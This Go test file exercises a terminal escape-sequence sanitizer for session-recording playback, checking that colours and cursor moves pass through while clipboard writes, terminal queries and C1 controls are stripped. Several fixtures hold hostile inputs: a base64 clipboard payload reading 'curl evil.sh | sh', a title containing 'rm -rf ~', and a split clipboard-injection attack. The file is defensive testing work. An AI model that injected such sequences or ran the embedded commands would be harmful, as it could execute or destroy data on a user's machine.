package recording

import (
	"bytes"
	"context"
	"errors"
	"io"
	"strings"
	"testing"
	"time"
)

var safeCases = []struct {
	name, in, want string
}{
	// What draws the session passes unchanged.
	{"plain text", "hello, world", "hello, world"},
	{"UTF-8 text", "caf\u00e9 \u65e5\u672c \U0001F600 \u201cq\u201d", "caf\u00e9 \u65e5\u672c \U0001F600 \u201cq\u201d"},
	{"colours", "\x1b[1;31mred\x1b[0m \x1b[38;5;208mo\x1b[48;2;1;2;3mb\x1b[m", "\x1b[1;31mred\x1b[0m \x1b[38;5;208mo\x1b[48;2;1;2;3mb\x1b[m"},
	{"cursor and clearing", "\x1b[2J\x1b[H\x1b[10;20H\x1b[K\x1b[3A\x1b[2C\x1b[1;24r\x1b[s\x1b[u", "\x1b[2J\x1b[H\x1b[10;20H\x1b[K\x1b[3A\x1b[2C\x1b[1;24r\x1b[s\x1b[u"},
	{"modes", "\x1b[?1049h\x1b[?25l\x1b[4h\x1b[?2004h\x1b[?1049l\x1b[>4;1m\x1b[2 q", "\x1b[?1049h\x1b[?25l\x1b[4h\x1b[?2004h\x1b[?1049l\x1b[>4;1m\x1b[2 q"},
	{"single-char escapes", "\x1b7\x1b8\x1b=\x1b>\x1bM\x1bc", "\x1b7\x1b8\x1b=\x1b>\x1bM\x1bc"},
	{"charsets and DECALN", "\x1b(B\x1b)0\x1b#8\x1b(0q\x1b(B", "\x1b(B\x1b)0\x1b#8\x1b(0q\x1b(B"},
	{"C0 controls", "a\r\n\tb\bc\x07d\x0e\x0f", "a\r\n\tb\bc\x07d\x0e\x0f"},

	// Strings are dropped with their terminator; the text around stays.
	{"OSC 52 clipboard, BEL", "a\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2gK\x07b", "ab"},
	{"OSC 52 clipboard, ST", "a\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2gK\x1b\\b", "ab"},
	{"OSC 0 title then title report", "\x1b]0;rm -rf ~\x07\x1b[21t$ ", "$ "},
	{"OSC 2 title then icon report", "\x1b]2;x\x1b\\\x1b[20t", ""},
	{"OSC 8 hyperlink keeps its text", "\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\", "link"},
	{"OSC 4 colour query", "\x1b]4;1;?\x07\x1b]11;?\x1b\\ok", "ok"},
	{"OSC title with curly quotes", "\x1b]0;\u201cq\u201d\x07ok", "ok"},
	{"DCS DECRQSS", "\x1bP$qm\x1b\\x", "x"},
	{"DCS XTGETTCAP", "\x1bP+q544e\x1b\\x", "x"},
	{"APC kitty graphics", "\x1b_Gf=100,a=T;iVBORw0KGgo=\x1b\\x", "x"},
	{"PM", "\x1b^private\x1b\\x", "x"},
	{"SOS", "\x1bXstart\x1b\\x", "x"},
	{"ESC other than backslash ends a string", "\x1b]0;x\x1b[31mred", "\x1b[31mred"},
	{"CAN aborts a string", "\x1b]0;x\x18after", "after"},
	{"SUB aborts a string", "\x1bPq\x1aafter", "after"},

	// Requests the terminal would answer on the viewer's input.
	{"DSR 5n 6n", "a\x1b[5n\x1b[6nb", "ab"},
	{"DEC DSR", "\x1b[?6n\x1b[?15n\x1b[?996n", ""},
	{"DA c 0c >c =c", "\x1b[c\x1b[0c\x1b[>c\x1b[>0c\x1b[=c", ""},
	{"window ops and reports", "\x1b[14t\x1b[18t\x1b[21t\x1b[8;100;300t\x1b[3;0;0t\x1b[22;0t", ""},
	{"DECID", "a\x1bZb", "ab"},
	{"ENQ answerback", "a\x05b", "ab"},
	{"DECRQM", "\x1b[?2004$p\x1b[4$p", ""},
	{"DECREQTPARM", "\x1b[x\x1b[1x", ""},
	{"XTVERSION", "\x1b[>q\x1b[>0q", ""},
	{"kitty keyboard query", "\x1b[?u", ""},
	{"XTQMODKEYS", "\x1b[?4m", ""},
	{"DECRQCRA", "\x1b[1;1;1;1;10;10*y", ""},
	{"DECRQTSR DECRQUPSS DECRQPSR", "\x1b[1$u\x1b[&u\x1b[1$w", ""},
	{"XTREPORTSGR", "\x1b[1;1;1;10#|", ""},
	{"DECRQLP DECELR", "\x1b[1'|\x1b[1'z", ""},
	{"DECRQDE", "\x1b[\"v", ""},
	{"XTSMGRAPHICS", "\x1b[?1;1;0S", ""},

	// 8-bit C1 controls, raw (not valid UTF-8) and as runes, with what they start.
	{"raw C1 CSI DSR", "a\x9b6nb", "ab"},
	{"raw C1 CSI colour dropped whole", "a\x9b31mb", "ab"},
	{"raw C1 OSC 52", "a\x9d52;c;QQ==\x07b", "ab"},
	{"raw C1 OSC ended by raw ST", "\x9d0;x\x9cz", "z"},
	{"raw C1 DCS PM APC SOS", "\x90$qm\x9c\x9ep\x9c\x9fa\x9c\x98s\x9cz", "z"},
	{"raw C1 NEL and IND", "a\x85\x84b", "ab"},
	{"C1 rune CSI", "a\u009b6nb", "ab"},
	{"C1 rune OSC ended by C1 rune ST", "\u009d52;c;QQ==\u009cz", "z"},
	{"C1 rune DCS", "\u0090$qm\u009cz", "z"},
	{"C1 runes NEL and IND", "a\u0085\u0084b", "ab"},

	// Odd input.
	{"invalid bytes become U+FFFD", "a\xffb\xe2(", "a\ufffdb\ufffd("},
	{"overlong ESC", "\xc0\x9b6nz", "\ufffdz"},
	{"C0 inside CSI runs first", "\x1b[1\n;31mx", "\n\x1b[1;31mx"},
	{"ESC ESC", "\x1b\x1b[31mx", "\x1b[31mx"},
	{"ESC restarts a CSI", "\x1b[12\x1b[6nx", "x"},
	{"CAN aborts a CSI", "\x1b[12\x18x", "x"},
	{"non-ASCII aborts a CSI", "\x1b[1\u00e9", "\u00e9"},
	{"DEL inside CSI is ignored", "\x1b[3\x7f1m", "\x1b[31m"},
	{"overlong CSI dropped", "\x1b[" + strings.Repeat("1", 300) + "mx", "x"},
	{"overlong ESC intermediates dropped", "\x1b" + strings.Repeat("(", 40) + "Bx", "x"},
}

func TestSafeString(t *testing.T) {
	for _, tc := range safeCases {
		t.Run(tc.name, func(t *testing.T) {
			if got := SafeString(tc.in); got != tc.want {
				t.Errorf("SafeString(%q) = %q, want %q", tc.in, got, tc.want)
			}
		})
	}
}

func TestSafeWriterSplitAtEveryOffset(t *testing.T) {
	for _, tc := range safeCases {
		t.Run(tc.name, func(t *testing.T) {
			for i := 0; i <= len(tc.in); i++ {
				var out bytes.Buffer
				w := NewSafeWriter(&out)
				for _, part := range []string{tc.in[:i], tc.in[i:]} {
					if n, err := io.WriteString(w, part); n != len(part) || err != nil {
						t.Fatalf("Write(%q) = %d, %v; want %d, nil", part, n, err, len(part))
					}
				}
				if out.String() != tc.want {
					t.Errorf("split at %d: %q + %q gave %q, want %q", i, tc.in[:i], tc.in[i:], out.String(), tc.want)
				}
			}
		})
	}
}

func TestSafeWriterByteAtATime(t *testing.T) {
	var in, want strings.Builder
	for _, tc := range safeCases {
		in.WriteString(tc.in)
		want.WriteString(tc.want)
	}
	var out bytes.Buffer
	w := NewSafeWriter(&out)
	for i := 0; i < in.Len(); i++ {
		if _, err := w.Write([]byte{in.String()[i]}); err != nil {
			t.Fatalf("Write: %v", err)
		}
	}
	if out.String() != want.String() {
		t.Errorf("byte at a time gave %q, want %q", out.String(), want.String())
	}
}

func TestSafeWriterEndsUnterminatedString(t *testing.T) {
	// "52;c;" and 4091 payload bytes fill maxStringLen; the rest is text.
	in := "\x1b]52;c;" + strings.Repeat("A", 5000) + "\r\n$ after"
	want := strings.Repeat("A", 5000-(maxStringLen-len("52;c;"))) + "\r\n$ after"
	if got := SafeString(in); got != want {
		t.Errorf("got %d bytes %.40q..., want %d bytes %.40q...", len(got), got, len(want), want)
	}
	if got := SafeString("\x1bP" + strings.Repeat("q", maxStringLen) + "\x1b\\x"); got != "x" {
		t.Errorf("a string of exactly maxStringLen bytes ended by ST gave %q, want %q", got, "x")
	}
	// The reset waits for a character boundary, so text after it stays whole.
	in = "\x1b]0;" + strings.Repeat("a", maxStringLen-3) + "\u65e5\u672c"
	if got := SafeString(in); got != "\u672c" {
		t.Errorf("reset inside a character gave %q, want %q", got, "\u672c")
	}
}

func TestSafeWriterMemoryStaysBounded(t *testing.T) {
	for _, tc := range []struct {
		start     string
		fill      string
		wantState safeState
	}{
		{"\x1b]52;c;", "A", stGround}, // reset after maxStringLen, then text
		{"\x1bP", "q", stGround},
		{"\x9d", "A", stGround},
		{"\x1b[", "1", stCSI}, // a CSI that never ends is dropped, not held
		{"\x1b(", "(", stEscInter},
	} {
		sw := NewSafeWriter(io.Discard).(*safeWriter)
		if _, err := io.WriteString(sw, tc.start); err != nil {
			t.Fatal(err)
		}
		chunk := []byte(strings.Repeat(tc.fill, 1024))
		// 4 MiB of an unterminated sequence, in 1 KiB Writes, allocates
		// nothing once the first Write sized the output buffer.
		allocs := testing.AllocsPerRun(4096, func() {
			if _, err := sw.Write(chunk); err != nil {
				t.Fatal(err)
			}
		})
		if allocs != 0 {
			t.Errorf("after %q: %v allocations per 1 KiB Write, want 0", tc.start, allocs)
		}
		if sw.st != tc.wantState {
			t.Errorf("after %q and 4 MiB of %q: state %d, want %d", tc.start, tc.fill, sw.st, tc.wantState)
		}
		if cap(sw.seq) > maxCSILen || cap(sw.pending) > 2*4 || cap(sw.out) > 2*len(chunk) {
			t.Errorf("after %q: buffers grew to %d, %d and %d bytes", tc.start, cap(sw.seq), cap(sw.pending), cap(sw.out))
		}
	}
}

type failingTerminal struct{ err error }

func (f failingTerminal) Write(p []byte) (int, error) { return 0, f.err }

type halfTerminal struct{}

func (halfTerminal) Write(p []byte) (int, error) { return len(p) / 2, nil }

func TestSafeWriterReturnsWriteErrors(t *testing.T) {
	boom := errors.New("terminal gone")
	w := NewSafeWriter(failingTerminal{boom})
	if n, err := w.Write([]byte("\x1b[31mtext")); !errors.Is(err, boom) || n != 0 {
		t.Errorf("Write to a failing terminal = %d, %v; want 0, %v", n, err, boom)
	}
	if n, err := NewSafeWriter(halfTerminal{}).Write([]byte("text")); !errors.Is(err, io.ErrShortWrite) || n != 0 {
		t.Errorf("Write to a short-writing terminal = %d, %v; want 0, %v", n, err, io.ErrShortWrite)
	}
}

func TestPlayThroughSafeWriter(t *testing.T) {
	// The attack is split across two events, as a recording cuts reads.
	events := []Event{
		{0, "o", "\x1b[1;32muser@node\x1b[0m:~# \x1b]52;c;ZXZp"},
		{0.1, "o", "bAo=\x07\x1b[6"},
		{0.2, "o", "n\x1b[?1049hvim\r\n"},
	}
	var out bytes.Buffer
	sleep := PlayOptions{Sleep: func(context.Context, time.Duration) error { return nil }}
	if err := Play(context.Background(), NewSafeWriter(&out), events, sleep); err != nil {
		t.Fatalf("Play: %v", err)
	}
	want := "\x1b[1;32muser@node\x1b[0m:~# \x1b[?1049hvim\r\n"
	if out.String() != want {
		t.Errorf("replayed %q, want %q", out.String(), want)
	}
}
